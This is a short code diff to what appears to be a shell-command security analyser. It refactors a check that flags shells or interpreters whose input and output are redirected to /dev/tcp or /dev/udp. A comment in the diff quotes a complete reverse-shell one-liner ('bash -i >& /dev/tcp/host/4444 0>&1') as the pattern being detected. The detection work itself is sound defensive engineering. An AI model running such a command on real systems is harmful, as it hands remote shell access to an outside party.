@@ -156,9 +156,9 @@ class Analysis extends BranchAnalysis {
     const args = this.resolveArgs(cmd.argv, ctx);
     const prefix = this.evalArgs(args, ctx, site);
     // `bash -i >& /dev/tcp/host/4444 0>&1`: a shell wired to a network connection (a reverse shell).
-    const program = args[0]?.static ? basename(args[0].value) : "";
-    if ((SHELLS.has(program) || interpreterName(program)) && cmd.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target.value))) {
-      this.finding("network-to-interpreter", collapse(cmd.text), ctx, `${program} reads and writes a network connection`);
+    if (cmd.redirects.length > 0 && cmd.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target.value))) {
+      const program = args[0]?.static ? basename(args[0].value) : "";
+      if (SHELLS.has(program) || interpreterName(program)) this.finding("network-to-interpreter", collapse(cmd.text), ctx, `${program} reads and writes a network connection`);
     }
     if (!writes) return;
     this.redirectWrites(cmd.redirects, prefix ?? (args[0] ? plainPrefix(args[0].value, args.slice(1)) : collapse(cmd.text)), ctx, local);
